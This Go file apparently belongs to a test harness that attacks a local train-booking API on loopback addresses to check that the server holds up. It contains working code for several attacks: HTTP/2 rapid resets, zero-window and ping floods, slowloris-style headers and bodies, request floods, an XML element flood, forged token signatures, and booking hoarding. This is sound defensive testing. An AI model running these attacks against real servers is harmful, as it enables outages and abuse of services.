package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack is what somebody does to a server, from addresses that begin as they are
// told, until ctx ends. It is bounded in what it sends.
type attack struct {
	name    string
	builtin bool                         // the sign-in is the server's own
	users   []string                     // of whom the attacker has tokens
	ready   func(v *victim, a *attacker) // or nil
	do      func(ctx context.Context, a *attacker)
	after   func(v *victim) // or nil
}

// attacks are all attacks.
func attacks() []attack {
	return []attack{
		{name: "unread pages over HTTP/2", do: unread("/docs/swagger-ui-bundle.js", 20)},
		{name: "unread stations of one user", users: []string{"greedy"}, do: unread("/stations?limit=100", 6)},
		{name: "slow bodies", do: slowBodies},
		{name: "forged tokens while the issuer hangs", ready: hangTheIssuer, do: forgedTokens},
		{name: "forged signatures", ready: forgeASignature, do: forgedTokens},
		{name: "a gateway that hangs", users: []string{"debtor0", "debtor1", "debtor2", "debtor3"}, do: hangingPayments},
		{name: "one ticket at once", users: []string{"traveller"}, ready: bookAhead, do: oneTicketAtOnce},
		{name: "one user holds a whole train", users: []string{"hoarder"}, do: wholeTrain, after: buyOnThatTrain},
		{name: "XML of empty elements", users: []string{"author"}, do: emptyElements},
		{name: "resets over HTTP/2", users: []string{"restless"}, do: resets},
		{name: "pings over HTTP/2", do: pings},
		{name: "headers that never end", do: slowHeaders},
		{name: "requests without waiting for answers", do: unansweredRequests},
		{name: "connections that say nonsense", do: nonsense},
		{name: "health checks", do: healthChecks},
		{name: "sign-ins", builtin: true, do: signIns},
	}
}

// A stream2 is an HTTP/2 connection of an attacker's own making.
type stream2 struct {
	net.Conn
	*http2.Framer
	text bytes.Buffer
	enc  *hpack.Encoder
	next uint32
}

// open2 begins HTTP/2 with windows of no size: the server may send no byte of a body.
func (a *attacker) open2(ctx context.Context, address string) (*stream2, error) {
	conn, err := a.dial(ctx, address)
	if err != nil {
		return nil, err
	}
	s := &stream2{Conn: conn, Framer: http2.NewFramer(conn, conn), next: 1}
	s.enc = hpack.NewEncoder(&s.text)
	_ = conn.SetDeadline(time.Now().Add(time.Minute))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // what the server says is not heeded
	return s, nil
}

// get asks for a path on the next stream, and returns its number.
func (s *stream2) get(path, token string) (uint32, error) {
	s.text.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "x"}, {":path", path}, {"authorization", "Bearer " + token}} {
		if f[0] == "authorization" && token == "" {
			continue
		}
		_ = s.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	id := s.next
	s.next += 2
	return id, s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: s.text.Bytes(), EndStream: true, EndHeaders: true})
}

// unread asks for a document on all streams of so many connections, and reads none.
func unread(path string, connections int) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		token := ""
		if len(a.Tokens) > 0 {
			token = a.Tokens[0]
		}
		for n := 0; n < connections && ctx.Err() == nil; n++ {
			s, err := a.open2(ctx, "127.0.0.66")
			if err != nil {
				return
			}
			for range 100 {
				if _, err := s.get(path, token); err != nil {
					break
				}
			}
		}
		<-ctx.Done()
	}
}

// slowBodies begins 1,200 bodies and does not finish them.
func slowBodies(ctx context.Context, a *attacker) {
	for n := 0; n < 1200 && ctx.Err() == nil; n++ {
		conn, err := a.dial(ctx, "127.0.0.67")
		if err != nil {
			return
		}
		path, form := "/tickets/verify", "application/octet-stream"
		if n%2 == 0 {
			path, form = "/oauth/token", "application/x-www-form-urlencoded"
		}
		fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: %s\r\nContent-Length: 50\r\n\r\nx", path, form)
	}
	<-ctx.Done()
}

// slowHeaders begins requests that never end.
func slowHeaders(ctx context.Context, a *attacker) {
	for n := 0; n < 1200 && ctx.Err() == nil; n++ {
		conn, err := a.dial(ctx, "127.0.0.68")
		if err != nil {
			return
		}
		fmt.Fprintf(conn, "GET /stations HTTP/1.1\r\nHost: x\r\nX-Long: ")
	}
	<-ctx.Done()
}

// hangTheIssuer has the issuer not answer any more, and makes a token of no key that it has.
func hangTheIssuer(v *victim, a *attacker) {
	close(v.partner.silent)
	a.Tokens = []string{v.partner.sign(v.t, shownBase, "forger", "no such key")}
}

// forgeASignature makes a token whose key the issuer has, with the signature of another.
func forgeASignature(v *victim, a *attacker) {
	good, other := v.partner.sign(v.t, shownBase, "forger", "k1"), v.partner.sign(v.t, shownBase, "somebody", "k1")
	a.Tokens = []string{good[:strings.LastIndexByte(good, '.')] + other[strings.LastIndexByte(other, '.'):]}
}

// forgedTokens sends one token again and again that is not good.
func forgedTokens(ctx context.Context, a *attacker) {
	client := a.Shop.client("127.0.0.69")
	crowdOf(ctx, 5000, 500, func() error { return a.send(ctx, client, "GET", "/stations", a.Tokens[0], "", "") })
}

// hangingPayments has four users pay with a card that the gateway never answers for.
func hangingPayments(ctx context.Context, a *attacker) {
	var unminded day
	var all sync.WaitGroup
	for _, token := range a.Tokens {
		all.Go(func() {
			client := a.Shop.client("127.0.0.70")
			day := time.Now().AddDate(0, 0, 250).Format(time.DateOnly)
			found := a.Shop.ask(&unminded, client, token, "GET", "/trips?origin="+berlin+"&destination="+paris+"&date="+day, "")
			trips, _ := found["data"].([]any)
			if len(trips) == 0 {
				return
			}
			trip := trips[0].(map[string]any)
			var payments sync.WaitGroup
			for range 9 { // as many as a user may hold
				booked := a.Shop.ask(&unminded, client, token, "POST", "/bookings", bookingOf(trip))
				body := paymentOf(trip, hangingCard)
				for range 12 {
					payments.Go(func() {
						_ = a.send(ctx, client, "POST", fmt.Sprint("/bookings/", booked["id"], "/payment"), token, "application/json", body)
					})
				}
			}
			payments.Wait()
		})
	}
	all.Wait()
}

// bookAhead has the attacker have a booking with a ticket.
func bookAhead(v *victim, a *attacker) {
	client := v.client("127.0.0.71")
	defer client.CloseIdleConnections()
	a.Path = "/bookings/" + v.bookOne(v.t, client, a.Tokens[0]) + "/ticket"
}

// oneTicketAtOnce has a user ask for one ticket 600 times at once.
func oneTicketAtOnce(ctx context.Context, a *attacker) {
	client := a.Shop.client("127.0.0.71")
	crowdOf(ctx, 600, 600, func() error { return a.send(ctx, client, "GET", a.Path, a.Tokens[0], "", "") })
}

// wantedTrain finds the train that wholeTrain is about.
func (s place) wantedTrain(d *day, client *http.Client, token string) map[string]any {
	when := time.Now().AddDate(0, 0, 260).Format(time.DateOnly)
	found := s.ask(d, client, token, "GET", "/trips?origin="+berlin+"&destination="+paris+"&date="+when, "")
	if trips, _ := found["data"].([]any); len(trips) > 0 {
		return trips[0].(map[string]any)
	}
	d.refused = append(d.refused, "the search found no train for the attack")
	return nil
}

// wholeTrain has a user book each place of a train, and pay for none.
func wholeTrain(ctx context.Context, a *attacker) {
	client := a.Shop.client("127.0.0.75")
	trip := a.Shop.wantedTrain(&day{}, client, a.Tokens[0])
	crowdOf(ctx, 400, 50, func() error {
		return a.send(ctx, client, "POST", "/bookings", a.Tokens[0], "application/json", bookingOf(trip))
	})
}

// buyOnThatTrain has a customer buy a place of the train that one user wants whole.
func buyOnThatTrain(v *victim) {
	var d, unminded day
	client := v.client("127.0.0.76")
	defer client.CloseIdleConnections()
	hoarder, customer := v.token("hoarder"), v.token("customer")
	trip := v.wantedTrain(&d, client, customer)
	for range 10 { // the attacker may not have come so far
		v.ask(&unminded, client, hoarder, "POST", "/bookings", bookingOf(trip))
	}
	held := v.ask(&d, client, hoarder, "GET", "/bookings?limit=100", "")
	if all, _ := held["data"].([]any); len(all) != 9 {
		v.t.Errorf("one user holds %d places, want 9", len(all))
	}
	booked := v.ask(&d, client, customer, "POST", "/bookings", bookingOf(trip))
	v.ask(&d, client, customer, "POST", fmt.Sprint("/bookings/", booked["id"], "/payment"), paymentOf(trip, "4242424242424242"))
	for _, refusal := range d.refused {
		v.t.Errorf("a customer cannot buy a place of the train: %s", refusal)
	}
}

// emptyElements sends bodies of 16,000 elements with nothing in them.
func emptyElements(ctx context.Context, a *attacker) {
	client := a.Shop.client("127.0.0.72")
	body := "<booking>" + strings.Repeat("<a/>", 16_000) + "</booking>"
	crowdOf(ctx, 2000, 50, func() error {
		return a.send(ctx, client, "POST", "/bookings", a.Tokens[0], "application/xml", body)
	})
}

// resets opens streams and cancels them at once.
func resets(ctx context.Context, a *attacker) {
	for n := 0; n < 100 && ctx.Err() == nil; n++ {
		s, err := a.open2(ctx, "127.0.0.73")
		if err != nil {
			return
		}
		for range 1000 {
			id, err := s.get("/stations?limit=100", a.Tokens[0])
			if err == nil {
				err = s.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil { // the server has had enough
				break
			}
			a.sent.Add(1)
		}
	}
}

// signIns posts the form of the sign-in, and asks for tokens, again and again.
func signIns(ctx context.Context, a *attacker) {
	client := a.Shop.client("127.0.0.74")
	form := url.Values{"user": {"mallory"}, "client_id": {"demo"}}.Encode()
	crowdOf(ctx, 20_000, 50, func() error {
		return a.send(ctx, client, "POST", "/oauth/authorize", "", "application/x-www-form-urlencoded", form)
	})
}

// pings asks for nothing but to be answered, on connections of HTTP/2.
func pings(ctx context.Context, a *attacker) {
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			s, err := a.open2(ctx, "127.0.0.75")
			for n := 0; n < 50_000 && err == nil && ctx.Err() == nil; n++ {
				a.sent.Add(1)
				err = s.WritePing(false, [8]byte{})
			}
		})
	}
	all.Wait()
}

// unansweredRequests sends requests one after the other and reads the responses, on many
// connections.
func unansweredRequests(ctx context.Context, a *attacker) {
	var all sync.WaitGroup
	text := strings.Repeat("GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n", 100)
	for range 200 {
		all.Go(func() {
			conn, err := a.dial(ctx, "127.0.0.76")
			if err != nil {
				return
			}
			go func() { _, _ = io.Copy(io.Discard, conn) }()
			for n := 0; n < 20 && err == nil && ctx.Err() == nil; n++ {
				a.sent.Add(100)
				_, err = io.WriteString(conn, text)
			}
		})
	}
	all.Wait()
}

// nonsense opens connections on which nothing is said that the server knows.
func nonsense(ctx context.Context, a *attacker) {
	crowdOf(ctx, 5000, 50, func() error {
		conn, err := a.dial(ctx, "127.0.0.77")
		if err != nil {
			return nil // it goes on
		}
		_, _ = io.WriteString(conn, strings.Repeat("nonsense", 40)+"\r\n\r\n")
		_, _ = io.Copy(io.Discard, conn)
		return conn.Close()
	})
}

// healthChecks asks whether the server is ready.
func healthChecks(ctx context.Context, a *attacker) {
	client := a.Shop.client("127.0.0.78")
	crowdOf(ctx, 20_000, 100, func() error { return a.send(ctx, client, "GET", "/readyz", "", "", "") })
}
